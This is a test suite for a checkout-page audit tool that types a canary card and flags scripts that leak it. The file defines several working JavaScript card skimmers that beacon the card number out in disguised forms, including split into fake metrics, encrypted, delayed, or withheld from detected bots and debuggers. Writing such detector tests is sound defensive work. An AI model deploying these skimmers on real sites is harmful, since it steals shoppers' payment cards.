import { webcrypto } from 'node:crypto';
import { beforeAll, describe, expect, it } from 'vitest';
import { auditPage, type AuditRun } from '../../src/audit/audit.js';
import { DEFAULT_BINS } from '../../src/audit/canary-bins-data.js';
import { freshCanaryCard, luhnCheckDigit } from '../../src/audit/canary-card.js';
import type { Stay } from '../../src/audit/canary-time.js';
import type { Browser } from '../../src/audit/driver.js';
import { visit } from './hands.js';
import { cleanShop, type ShopScript } from './shop.js';
import { browserAndSite, type Site } from './site.js';

let browser: Browser;
let site: Site;
let publicKey: JsonWebKey;
let privateKey: CryptoKey;

browserAndSite((started, shop) => ([browser, site] = [started, shop]));

beforeAll(async () => {
  const pair = await webcrypto.subtle.generateKey(
    {
      name: 'RSA-OAEP',
      modulusLength: 2048,
      publicExponent: new Uint8Array([1, 0, 1]),
      hash: 'SHA-256',
    },
    true,
    ['encrypt', 'decrypt'],
  );
  publicKey = await webcrypto.subtle.exportKey('jwk', pair.publicKey);
  privateKey = pair.privateKey;
});

/**
 * Calls `send(number)` once the shopper has typed a whole Luhn-valid number, as skimmers do:
 * nothing is sent for a number the element would refuse.
 */
const onValidCard = (send: string) => `(() => {
const luhn = (n) => [...n].reverse().reduce((s, d, i) => s + (i % 2 ? (d * 2 > 9 ? d * 2 - 9 : d * 2) : +d), 0) % 10 === 0;
let done = false;
document.addEventListener('input', () => {
  const input = document.querySelector('card-tokenizer input[autocomplete="cc-number"]');
  const number = input ? input.value.replace(/\\D/g, '') : '';
  if (done || number.length !== 16 || !luhn(number)) return;
  done = true;
  (${send})(number);
}, true);
})();`;

/** A carousel's tick: a 1 ms interval, which made the earlier canary's clock crawl. */
const JAMMED = `setInterval(() => {}, 1);`;

/** Each skimmer: its name, its script, how long a shopper must stay for it to send. */
const SKIMMERS = {
  'the number in four parts': {
    body: () =>
      onValidCard(`(number) => [3, 2, 1, 0].forEach((part) =>
  fetch('/metrics?name=lcp&value=' + number.slice(part * 4, part * 4 + 4) + '&part=' + part))`),
    stayMs: 1000,
  },
  'the number encrypted': {
    body: () =>
      onValidCard(`async (number) => {
  const key = await crypto.subtle.importKey('jwk', ${JSON.stringify(publicKey)}, { name: 'RSA-OAEP', hash: 'SHA-256' }, false, ['encrypt']);
  const sealed = await crypto.subtle.encrypt({ name: 'RSA-OAEP' }, key, new TextEncoder().encode(number));
  fetch('/consent', { method: 'POST', body: JSON.stringify({ state: btoa(String.fromCharCode(...new Uint8Array(sealed))) }) });
}`),
    stayMs: 1000,
  },
  'a jammed clock': {
    body: (delayMs = 45_000) =>
      JAMMED +
      onValidCard(
        `(number) => setTimeout(() => fetch('/later', { method: 'POST', body: number }), ${delayMs})`,
      ),
    stayMs: 8000,
  },
  'an issuer table': {
    body: () =>
      onValidCard(`(number) => {
  const issuers = new Set(${JSON.stringify(DEFAULT_BINS)});
  if (issuers.has(number.slice(0, 6))) navigator.sendBeacon('/bin-table', number);
}`),
    stayMs: 1000,
  },
  'key hold time': {
    body: () => `const holds = [];
let down = 0;
let pasted = false;
document.addEventListener('keydown', () => { down = performance.now(); }, true);
document.addEventListener('keyup', () => { holds.push(performance.now() - down); }, true);
document.addEventListener('paste', () => { pasted = true; }, true);
${onValidCard(`(number) => {
  const typical = holds.slice().sort((a, b) => a - b)[Math.floor(holds.length / 2)];
  if (pasted || typical >= 40) fetch('/hold', { method: 'POST', body: btoa(number) });
}`)}`,
    stayMs: 1000,
  },
  'a clock that jumped': {
    body: (delayMs = 20_000) => `let jumped = false;
let last = [Date.now(), document.timeline.currentTime];
setInterval(() => {
  const now = [Date.now(), document.timeline.currentTime];
  if (Math.abs(now[0] - last[0] - (now[1] - last[1])) > 2000) jumped = true;
  last = now;
}, 1000);
${onValidCard(`(number) => setTimeout(() => { if (!jumped) fetch('/quiet', { method: 'POST', body: number }); }, ${delayMs})`)}`,
    stayMs: 8000,
  },
  'a debugger': {
    // It times its own `debugger;` as it is about to send: an event's time stamp is the monotonic
    // clock, which no clock of Playwright's replaces.
    body: () => `const watched = () => {
  const start = new Event('t').timeStamp;
  debugger;
  return new Event('t').timeStamp - start > 1;
};
${onValidCard(`(number) => setTimeout(() => { if (!watched()) fetch('/unwatched', { method: 'POST', body: number }); }, 1000)`)}`,
    stayMs: 3000,
  },
} as const;
type Name = keyof typeof SKIMMERS;

/** A card the shipped table of issuers holds, as a shopper's would be. */
const issuerCard = () => freshCanaryCard();
/** A card of a random Visa range no issuer table holds, as the earlier canary typed. */
function randomRangeCard(): string {
  for (;;) {
    let digits = '4';
    while (digits.length < 15) digits += String(Math.floor(Math.random() * 10));
    if (!DEFAULT_BINS.includes(digits.slice(0, 6))) return digits + luhnCheckDigit(digits);
  }
}

/** What the site received after the checkout loaded, bodies and URLs, as text. */
const receivedText = () => site.requests.map(({ url, body }) => `${url}\n${body}`).join('\n');

async function shopperSends(name: Name, card: string, bot = false, body?: string): Promise<string> {
  shop([{ path: '/skimmer.js', body: body ?? SKIMMERS[name].body() }]);
  site.requests.splice(0);
  await visit(browser, site, card, { stayMs: SKIMMERS[name].stayMs, bot });
  return receivedText();
}

async function audited(name: Name, stay?: Stay): Promise<AuditRun> {
  shop([{ path: '/skimmer.js', body: SKIMMERS[name].body() }]);
  return auditPage(browser, {
    url: `${site.origin}/checkout`,
    canary: true,
    integrityFile: 'dist/integrity.json',
    ...(stay && { stay }),
  });
}

/** The clean shop with one more script, and the page the payment leads to. */
function shop(extra: ShopScript[] = []): void {
  cleanShop(site, extra);
  site.files.set(
    '/pay',
    '<!doctype html><html lang="en"><title>Thank you</title><p>Paid.</p></html>',
  );
}

const failures = (run: AuditRun) =>
  run.checks
    .filter(({ kind }) => kind === 'card-data-leak' || kind === 'card-triggered')
    .map(({ kind, where, message }) => `${kind} ${where}: ${message}`);

describe('card-tokenizer-audit --canary judges what the page does', () => {
  it('passes the clean checkout, its analytics included', async () => {
    shop();
    const run = await auditPage(browser, {
      url: `${site.origin}/checkout`,
      canary: true,
      integrityFile: 'dist/integrity.json',
    });
    expect(failures(run)).toEqual([]);
    expect(run.canary!.tokenizationRequest).toBeDefined();
    expect(run.canary!.cardReads).toEqual([]);
  });

  it('catches the number in four parts, sent last group first', async () => {
    const card = issuerCard();
    const sent = await shopperSends('the number in four parts', card);
    const groups = [3, 2, 1, 0].map((part) => card.slice(part * 4, part * 4 + 4));
    expect(
      groups.every((group) => sent.includes(`value=${group}`)),
      sent,
    ).toBe(true);
    const run = await audited('the number in four parts');
    expect(run.canary!.cardReads).toContainEqual({
      what: expect.stringMatching(/^reads the value of <input autocomplete="cc-number"> in /),
      script: '/skimmer.js',
    });
    expect(failures(run).join('\n')).toMatch(
      /^card-triggered request: request GET http:\/\/127\.0\.0\.1:\d+\/metrics\?name&part&value: only with a valid card: 4×.*sent by .*\/skimmer\.js/m,
    );
  });

  it('catches the number encrypted with the attacker’s key', async () => {
    const card = issuerCard();
    const sent = await shopperSends('the number encrypted', card);
    const state = (
      JSON.parse(sent.split('\n').find((line) => line.startsWith('{"state"'))!) as { state: string }
    ).state;
    const opened = await webcrypto.subtle.decrypt(
      { name: 'RSA-OAEP' },
      privateKey,
      Buffer.from(state, 'base64'),
    );
    expect(new TextDecoder().decode(opened)).toBe(card);
    const run = await audited('the number encrypted');
    expect(failures(run).join('\n')).toMatch(
      /^card-triggered request: request POST http:\/\/127\.0\.0\.1:\d+\/consent: only with a valid card: 1×/m,
    );
  });

  it('never passes a jammed clock: the card sent 45 s of the page’s time after typing', async () => {
    const card = issuerCard();
    // The same skimmer, 5 s in place of 45: a shopper's real wait, kept short for the suite.
    const sent = await shopperSends(
      'a jammed clock',
      card,
      false,
      SKIMMERS['a jammed clock'].body(5000),
    );
    expect(sent).toContain(card);
    // Caught when the jump goes through; else "cannot judge" (exit 2), naming the clock: never a pass.
    const outcome = await audited('a jammed clock').then(
      (run) => failures(run).join('\n'),
      (error: Error) => `${error.name}: ${error.message}`,
    );
    expect(outcome).toMatch(
      /\/later: the canary's card left the element: card number, plain|^CannotJudge: the clock of .* did not jump 300 s/m,
    );
  });

  it('catches an issuer table: the canary’s BIN is a real issuer’s', async () => {
    expect(await shopperSends('an issuer table', issuerCard())).toMatch(/\d{16}/);
    expect(await shopperSends('an issuer table', randomRangeCard())).not.toMatch(/\d{16}/);
    const run = await audited('an issuer table');
    expect(failures(run).join('\n')).toMatch(
      /\/bin-table: the canary's card left the element: card number, plain/,
    );
  });

  it('catches key hold time: the canary holds keys as people do', async () => {
    const card = issuerCard();
    expect(await shopperSends('key hold time', card)).toContain(btoa(card));
    expect(await shopperSends('key hold time', card, true)).not.toContain(btoa(card));
    const run = await audited('key hold time');
    expect(failures(run).join('\n')).toMatch(
      /\/hold: the canary's card left the element: base64 of card number/,
    );
  });

  it('catches a clock that jumped with --stay in real time; the forwarded stay stays a tell', async () => {
    const card = issuerCard();
    // The same skimmer, 5 s in place of 20 after the number: a shopper's real wait, kept short.
    const quick = SKIMMERS['a clock that jumped'].body(5000);
    expect(await shopperSends('a clock that jumped', card, false, quick)).toContain(card);
    expect(await shopperSends('a clock that jumped', card, true, quick)).not.toContain(card);
    expect(failures(await audited('a clock that jumped'))).toEqual([]);
    const run = await audited('a clock that jumped', { real: true, ms: 25_000 });
    expect(failures(run).join('\n')).toMatch(
      /\/quiet: the canary's card left the element: card number, plain/,
    );
  }, 300_000);

  it('catches a debugger: no Debugger domain while the canary types', async () => {
    const card = issuerCard();
    expect(await shopperSends('a debugger', card)).toContain(card);
    // Not asserted: that it stays quiet for a bot with the Debugger domain on. In about one run in
    // four on 2 busy cores no pause was timed (open in docs/audit.md's table of tells).
    const run = await audited('a debugger');
    expect(failures(run).join('\n')).toMatch(
      /\/unwatched: the canary's card left the element: card number, plain/,
    );
  });
});
